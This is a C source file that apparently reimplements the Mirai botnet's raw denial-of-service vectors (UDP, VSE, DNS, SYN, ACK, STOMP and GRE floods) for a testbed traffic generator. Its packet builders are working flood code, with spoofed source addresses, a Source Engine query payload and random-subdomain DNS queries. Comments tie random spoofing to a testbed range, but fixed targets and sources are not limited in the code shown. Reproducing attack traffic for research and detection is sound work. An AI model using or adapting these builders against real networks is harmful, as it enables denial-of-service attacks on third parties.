// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Mirai's raw vectors, packet by packet, as MIRAI-VECTORS.md describes
 * them (our own code; the Mirai source was only read for the spec). The
 * order of the random draws follows Mirai's send loops, so one seed gives
 * one packet sequence.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <string.h>
#include "vectors.h"
#include "tunnel.h"
#include "safety.h"

static const char *const names[] = {
	[VEC_UDP] = "udp", [VEC_VSE] = "vse", [VEC_DNS] = "dns", [VEC_SYN] = "syn",
	[VEC_ACK] = "ack", [VEC_STOMP] = "stomp", [VEC_GREIP] = "greip",
	[VEC_GREETH] = "greeth", [8] = NULL, [VEC_UDPPLAIN] = "udpplain", [VEC_HTTP] = "http",
};

const char *vec_name(int vec)
{
	if (vec < 0 || vec > VEC_HTTP || !names[vec])
		return "?";
	return names[vec];
}

int vec_parse(const char *name)
{
	for (int i = 0; i <= VEC_HTTP; i++)
		if (names[i] && !strcmp(names[i], name))
			return i;
	return VEC_NONE;
}

int vec_is_raw(int vec)
{
	return vec != VEC_UDPPLAIN && vec != VEC_HTTP && vec != VEC_STOMP;
}

/* splitmix64: spreads (seed, stream) over the 128-bit state */
static uint64_t splitmix(uint64_t *s)
{
	uint64_t z = (*s += 0x9E3779B97F4A7C15ull);

	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}

void vec_rand_seed(struct vec_rand *r, uint64_t seed, uint64_t stream)
{
	uint64_t s = seed ^ (stream * 0xD1B54A32D192ED03ull), a, b;

	a = splitmix(&s);
	b = splitmix(&s);
	r->x = (uint32_t)a;
	r->y = (uint32_t)(a >> 32);
	r->z = (uint32_t)b;
	r->w = (uint32_t)(b >> 32);
	if (!(r->x | r->y | r->z | r->w))
		r->w = 1;
}

void vec_rand_fill(struct vec_rand *r, uint8_t *p, size_t len)
{
	while (len >= 4) {
		uint32_t v = vec_rand_next(r);

		p[0] = (uint8_t)v;
		p[1] = (uint8_t)(v >> 8);
		p[2] = (uint8_t)(v >> 16);
		p[3] = (uint8_t)(v >> 24);
		p += 4;
		len -= 4;
	}
	if (len) {
		uint32_t v = vec_rand_next(r);

		for (size_t i = 0; i < len; i++)
			p[i] = (uint8_t)(v >> (8 * i));
	}
}

void vec_defaults(struct vec_opts *o, int vec)
{
	memset(o, 0, sizeof(*o));
	o->vec = vec;
	o->ident = VEC_RANDOM16;
	o->ttl = 64;
	o->sport = VEC_RANDOM16;
	o->dport = VEC_RANDOM16;
	o->dhid = VEC_RANDOM16;
	o->seqnum = VEC_RANDOM16;
	o->acknum = 0;
	o->rand = 1;
	o->conns = 1;
	strcpy(o->method, "GET");
	strcpy(o->path, "/");
	switch (vec) {
	case VEC_UDP:
		o->len = 512;
		break;
	case VEC_VSE:
		o->dport = 27015;
		break;
	case VEC_DNS:
		o->dport = 53;
		o->len = 12;
		break;
	case VEC_SYN:
		o->df = 1;
		o->syn = 1;
		break;
	case VEC_ACK:
		o->len = 512;
		o->ack = 1;
		o->acknum = VEC_RANDOM16;
		break;
	case VEC_STOMP:
		o->len = 768;
		o->df = 1;
		o->ack = 1;
		o->psh = 1;
		break;
	case VEC_GREIP:
	case VEC_GREETH:
		o->len = 512;
		o->df = 1;
		break;
	case VEC_UDPPLAIN:
		o->len = 512;
		break;
	case VEC_HTTP:
		o->dport = 80;
		break;
	}
}

static const uint8_t vse_payload[25] = {
	0xff, 0xff, 0xff, 0xff, 'T', 'S', 'o', 'u', 'r', 'c', 'e', ' ', 'E', 'n', 'g', 'i',
	'n', 'e', ' ', 'Q', 'u', 'e', 'r', 'y', 0,
};

uint32_t vec_ip_len(const struct vec_opts *o)
{
	switch (o->vec) {
	case VEC_UDP:
		return 28 + o->len;
	case VEC_VSE:
		return 28 + sizeof(vse_payload);
	case VEC_DNS:
		return 20 + 8 + 12 + 1 + o->len + (uint32_t)strlen(o->domain) + 2 + 4;
	case VEC_SYN:
		return 60;
	case VEC_ACK:
		return 40 + o->len;
	case VEC_STOMP:
		return 40 + o->len;
	case VEC_GREIP:
		return 20 + 4 + 28 + o->len;
	case VEC_GREETH:
		return 20 + 4 + 14 + 28 + o->len;
	case VEC_UDPPLAIN:
		return 28 + o->len;
	}
	return 0;
}

uint32_t vec_target_host(struct vec_rand *r, const struct vec_target *t)
{
	if (t->netmask >= 32)
		return t->addr;
	return htonl(ntohl(t->addr) + (vec_rand_next(r) >> t->netmask));
}

uint32_t vec_testbed_random(struct vec_rand *r)
{
	return htonl(XPRO_TESTBED_NET | (vec_rand_next(r) & ~XPRO_TESTBED_MASK));
}

uint16_t vec_l4_csum(uint32_t saddr, uint32_t daddr, uint8_t proto, const void *l4, size_t len)
{
	uint32_t s = ntohl(saddr), d = ntohl(daddr);
	uint32_t sum = (s >> 16) + (s & 0xffff) + (d >> 16) + (d & 0xffff) + proto + (uint32_t)len;

	return xpro_csum(l4, len, sum);
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

/* IPv4 header without checksum; addresses in network order */
static void ip_hdr(uint8_t *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d)
{
	ip[0] = 0x45;
	ip[1] = o->tos;
	put16(ip + 2, tot);
	/* id: set by the caller */
	put16(ip + 6, o->df ? 0x4000 : 0);
	ip[8] = o->ttl;
	ip[9] = proto;
	ip[10] = ip[11] = 0;
	memcpy(ip + 12, &s, 4);
	memcpy(ip + 16, &d, 4);
}

static void ip_csum(uint8_t *ip)
{
	uint16_t c;

	ip[10] = ip[11] = 0;
	c = xpro_csum(ip, 20, 0);
	memcpy(ip + 10, &c, 2);
}

/* Mirai's per-packet ID: (uint16_t)rand_next() written natively (LE), or
 * htons(ident) when fixed. Returns the field as it is on the wire. */
static void ip_id(uint8_t *ip, const struct vec_opts *o, struct vec_rand *r)
{
	if (o->ident == VEC_RANDOM16) {
		uint32_t v = vec_rand_next(r);

		ip[4] = (uint8_t)v; /* native little-endian store */
		ip[5] = (uint8_t)(v >> 8);
	} else {
		put16(ip + 4, (uint16_t)o->ident);
	}
}

/* A port option: random per packet (65535) or fixed, in network order. */
static void port(uint8_t *p, uint32_t opt, struct vec_rand *r)
{
	if (opt == VEC_RANDOM16) {
		uint32_t v = vec_rand_next(r);

		p[0] = (uint8_t)v;
		p[1] = (uint8_t)(v >> 8);
	} else {
		put16(p, (uint16_t)opt);
	}
}

/* Source and destination ports of an L4 header, in that order */
static void ports(uint8_t *l4, const struct vec_opts *o, struct vec_rand *r)
{
	port(l4, o->sport, r);
	port(l4 + 2, o->dport, r);
}

/* The IPv4 header and its ID (ip_hdr, then ip_id: the order Mirai draws in) */
static void ip_start(uint8_t *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d,
		     struct vec_rand *r)
{
	ip_hdr(ip, o, tot, proto, s, d);
	ip_id(ip, o, r);
}

static uint32_t source(const struct vec_opts *o, struct vec_flow *f)
{
	switch (o->src_mode) {
	case VEC_SRC_FIXED:
		return o->src_addr;
	case VEC_SRC_RANDOM:
		return vec_testbed_random(&f->rnd);
	}
	return f->local;
}

void vec_flow_init(const struct vec_opts *o, struct vec_flow *f, uint32_t local,
		   const struct vec_target *t, uint64_t seed, uint64_t stream)
{
	memset(f, 0, sizeof(*f));
	f->local = local;
	f->tgt = *t;
	vec_rand_seed(&f->rnd, seed, stream);
	switch (o->vec) {
	case VEC_SYN:
		f->mss = (uint16_t)(1400 + (vec_rand_next(&f->rnd) & 0x0f));
		f->tsval = vec_rand_next(&f->rnd);
		break;
	case VEC_ACK:
		f->window = (uint16_t)vec_rand_next(&f->rnd);
		vec_rand_fill(&f->rnd, f->fixed_payload, o->len < sizeof(f->fixed_payload) ? o->len : sizeof(f->fixed_payload));
		break;
	case VEC_STOMP:
		f->window = (uint16_t)vec_rand_next(&f->rnd);
		vec_rand_fill(&f->rnd, f->fixed_payload, o->len < sizeof(f->fixed_payload) ? o->len : sizeof(f->fixed_payload));
		break;
	case VEC_GREIP:
	case VEC_GREETH:
		/* Mirai: random, once per target; kept inside the testbed here */
		f->inner_src = vec_testbed_random(&f->rnd);
		break;
	case VEC_UDPPLAIN:
	case VEC_HTTP:
		f->host = vec_target_host(&f->rnd, t);
		break;
	}
}

static const char dns_alpha[33] = "abcdefghijklmnopqrstuvw012345678";

static int build_dns(const struct vec_opts *o, struct vec_flow *f, uint8_t *ip, uint16_t tot)
{
	uint8_t *udp = ip + 20, *dns = udp + 8, *q = dns + 12, *lbl;
	const char *d = o->domain;
	uint16_t c;
	uint32_t i;

	ip_start(ip, o, tot, 17, f->local, f->tgt.addr, &f->rnd);
	port(udp, VEC_RANDOM16, &f->rnd); /* sport: always random */
	port(udp + 2, o->dport, &f->rnd);
	put16(udp + 4, (uint16_t)(tot - 20));
	udp[6] = udp[7] = 0;
	if (o->dhid == VEC_RANDOM16) {
		uint32_t v = vec_rand_next(&f->rnd);

		dns[0] = (uint8_t)v;
		dns[1] = (uint8_t)(v >> 8);
	} else {
		put16(dns, (uint16_t)o->dhid);
	}
	put16(dns + 2, 0x0100);
	put16(dns + 4, 1);
	memset(dns + 6, 0, 6);
	/* <len random chars>: 4 per draw, each from the top 5 bits of a byte;
	 * a tail of len % 4 gets raw 5-bit values (not reachable via the CNC) */
	q[0] = (uint8_t)o->len;
	lbl = q + 1;
	for (i = 0; i + 4 <= o->len; i += 4) {
		uint32_t v = vec_rand_next(&f->rnd);

		for (int k = 0; k < 4; k++)
			lbl[i + k] = (uint8_t)dns_alpha[((v >> (8 * k)) & 0xff) >> 3];
	}
	if (i < o->len) {
		uint32_t v = vec_rand_next(&f->rnd);

		for (int k = 0; i < o->len; i++, k++)
			lbl[i] = (uint8_t)(((v >> (8 * k)) & 0xff) >> 3);
	}
	/* the domain in label encoding: every dot starts a label (a trailing
	 * dot gives an empty label), then the closing zero */
	q = lbl + o->len;
	{
		uint8_t *lenp = q++;
		uint8_t n = 0;

		for (; *d; d++) {
			if (*d == '.') {
				*lenp = n;
				lenp = q++;
				n = 0;
			} else {
				*q++ = (uint8_t)*d;
				n++;
			}
		}
		*lenp = n;
		*q++ = 0;
	}
	put16(q, 1);
	put16(q + 2, 1);
	c = vec_l4_csum(f->local, f->tgt.addr, 17, udp, tot - 20);
	memcpy(udp + 6, &c, 2);
	ip_csum(ip);
	return tot;
}

static void tcp_flags(uint8_t *tcp, const struct vec_opts *o)
{
	tcp[13] = (uint8_t)((o->urg ? 0x20 : 0) | (o->ack ? 0x10 : 0) | (o->psh ? 0x08 : 0) |
			    (o->rst ? 0x04 : 0) | (o->syn ? 0x02 : 0) | (o->fin ? 0x01 : 0));
}

/* Q3: htons(N) stored into a 32-bit field on a little-endian bot */
static void seq16(uint8_t *p, uint32_t n)
{
	p[0] = (uint8_t)(n >> 8);
	p[1] = (uint8_t)n;
	p[2] = p[3] = 0;
}

static void rand32(uint8_t *p, struct vec_rand *r)
{
	uint32_t v = vec_rand_next(r);

	memcpy(p, &v, 4);
}

/* TCP sequence and acknowledgement numbers: random per packet, or the
 * option's value (Q3); the ack 0 when not random (Q4) */
static void tcp_seq_ack(uint8_t *l4, const struct vec_opts *o, struct vec_rand *r)
{
	if (o->seqnum == VEC_RANDOM16)
		rand32(l4 + 4, r);
	else
		seq16(l4 + 4, o->seqnum);
	if (o->acknum == VEC_RANDOM16)
		rand32(l4 + 8, r);
	else
		memset(l4 + 8, 0, 4);
}

int vec_next(const struct vec_opts *o, struct vec_flow *f, uint8_t *ip, size_t cap)
{
	uint32_t tot = vec_ip_len(o), dst, src;
	uint8_t *l4 = ip + 20, *pl;
	uint16_t c;

	if (!tot || tot > cap || tot > 0xffff)
		return -EMSGSIZE;
	switch (o->vec) {
	case VEC_UDP:
		dst = vec_target_host(&f->rnd, &f->tgt);
		src = source(o, f);
		ip_start(ip, o, (uint16_t)tot, 17, src, dst, &f->rnd);
		ports(l4, o, &f->rnd);
		put16(l4 + 4, (uint16_t)(8 + o->len));
		l4[6] = l4[7] = 0;
		pl = l4 + 8;
		if (o->rand)
			vec_rand_fill(&f->rnd, pl, o->len);
		else
			memset(pl, 0, o->len);
		c = vec_l4_csum(src, dst, 17, l4, 8 + o->len);
		memcpy(l4 + 6, &c, 2);
		break;
	case VEC_VSE:
		dst = vec_target_host(&f->rnd, &f->tgt);
		ip_start(ip, o, (uint16_t)tot, 17, f->local, dst, &f->rnd);
		ports(l4, o, &f->rnd);
		put16(l4 + 4, 8 + sizeof(vse_payload));
		l4[6] = l4[7] = 0;
		memcpy(l4 + 8, vse_payload, sizeof(vse_payload));
		c = vec_l4_csum(f->local, dst, 17, l4, 8 + sizeof(vse_payload));
		memcpy(l4 + 6, &c, 2);
		break;
	case VEC_DNS:
		return build_dns(o, f, ip, (uint16_t)tot);
	case VEC_SYN:
		dst = vec_target_host(&f->rnd, &f->tgt);
		src = source(o, f);
		ip_start(ip, o, 60, 6, src, dst, &f->rnd);
		ports(l4, o, &f->rnd);
		tcp_seq_ack(l4, o, &f->rnd);
		l4[12] = 10 << 4;
		tcp_flags(l4, o);
		l4[14] = l4[15] = 0; /* window 0 */
		l4[16] = l4[17] = 0;
		if (o->urg) {
			uint32_t v = vec_rand_next(&f->rnd);

			l4[18] = (uint8_t)v;
			l4[19] = (uint8_t)(v >> 8);
		} else {
			l4[18] = l4[19] = 0;
		}
		pl = l4 + 20;
		pl[0] = 2; pl[1] = 4; put16(pl + 2, f->mss);
		pl[4] = 4; pl[5] = 2;
		pl[6] = 8; pl[7] = 10; memcpy(pl + 8, &f->tsval, 4); memset(pl + 12, 0, 4);
		pl[16] = 1;
		pl[17] = 3; pl[18] = 3; pl[19] = 6;
		c = vec_l4_csum(src, dst, 6, l4, 40);
		memcpy(l4 + 16, &c, 2);
		break;
	case VEC_ACK:
		dst = vec_target_host(&f->rnd, &f->tgt);
		src = source(o, f);
		ip_start(ip, o, (uint16_t)tot, 6, src, dst, &f->rnd);
		ports(l4, o, &f->rnd);
		tcp_seq_ack(l4, o, &f->rnd);
		l4[12] = 5 << 4;
		tcp_flags(l4, o);
		put16(l4 + 14, f->window);
		memset(l4 + 16, 0, 4); /* checksum, urgent pointer always 0 */
		pl = l4 + 20;
		if (o->rand)
			vec_rand_fill(&f->rnd, pl, o->len);
		else
			memcpy(pl, f->fixed_payload, o->len);
		c = vec_l4_csum(src, dst, 6, l4, 20 + o->len);
		memcpy(l4 + 16, &c, 2);
		break;
	case VEC_STOMP:
		/* the connection's addresses and ports; Mirai swaps seq/ack and
		 * keeps 16 bits of each (upper half on a little-endian bot) */
		dst = f->host;
		ip_start(ip, o, (uint16_t)tot, 6, f->local, dst, &f->rnd);
		put16(l4, f->lport);
		put16(l4 + 2, f->rport);
		seq16(l4 + 4, f->srv_seq & 0xffff);
		f->srv_seq++;
		seq16(l4 + 8, f->my_ack & 0xffff);
		l4[12] = 8 << 4; /* data offset 8, 20-byte header (Q5) */
		tcp_flags(l4, o);
		put16(l4 + 14, f->window);
		memset(l4 + 16, 0, 4);
		pl = l4 + 20;
		if (o->rand)
			vec_rand_fill(&f->rnd, pl, o->len);
		else
			memcpy(pl, f->fixed_payload, o->len);
		c = vec_l4_csum(f->local, dst, 6, l4, 20 + o->len);
		memcpy(l4 + 16, &c, 2);
		break;
	case VEC_GREIP:
	case VEC_GREETH: {
		uint8_t *gre = l4, *iip, *iudp;
		uint32_t idst;
		uint16_t oid;

		dst = vec_target_host(&f->rnd, &f->tgt);
		src = source(o, f);
		ip_start(ip, o, (uint16_t)tot, 47, src, dst, &f->rnd);
		gre[0] = gre[1] = 0;
		put16(gre + 2, o->vec == VEC_GREIP ? 0x0800 : 0x6558);
		iip = gre + 4;
		if (o->vec == VEC_GREETH) {
			uint32_t m[3] = { vec_rand_next(&f->rnd), vec_rand_next(&f->rnd), vec_rand_next(&f->rnd) };

			memcpy(iip, m, 12);
			put16(iip + 12, 0x0800);
			iip += 14;
		}
		idst = o->gcip ? dst : vec_testbed_random(&f->rnd);
		ip_hdr(iip, o, (uint16_t)(28 + o->len), 17, f->inner_src, idst);
		/* ~(outer id - 1000) on the little-endian view of the field */
		oid = (uint16_t)(ip[4] | ip[5] << 8);
		if (o->ident == VEC_RANDOM16)
			oid = (uint16_t)~(uint16_t)(oid - 1000);
		else
			oid = (uint16_t)~oid;
		iip[4] = (uint8_t)oid;
		iip[5] = (uint8_t)(oid >> 8);
		iudp = iip + 20;
		port(iudp, o->sport, &f->rnd);
		port(iudp + 2, o->dport, &f->rnd);
		put16(iudp + 4, (uint16_t)(8 + o->len));
		iudp[6] = iudp[7] = 0;
		pl = iudp + 8;
		if (o->rand)
			vec_rand_fill(&f->rnd, pl, o->len);
		else
			memset(pl, 0, o->len);
		c = vec_l4_csum(f->inner_src, idst, 17, iudp, 8 + o->len);
		memcpy(iudp + 6, &c, 2);
		ip_csum(iip);
		break;
	}
	default:
		return -EINVAL;
	}
	ip_csum(ip);
	return (int)tot;
}
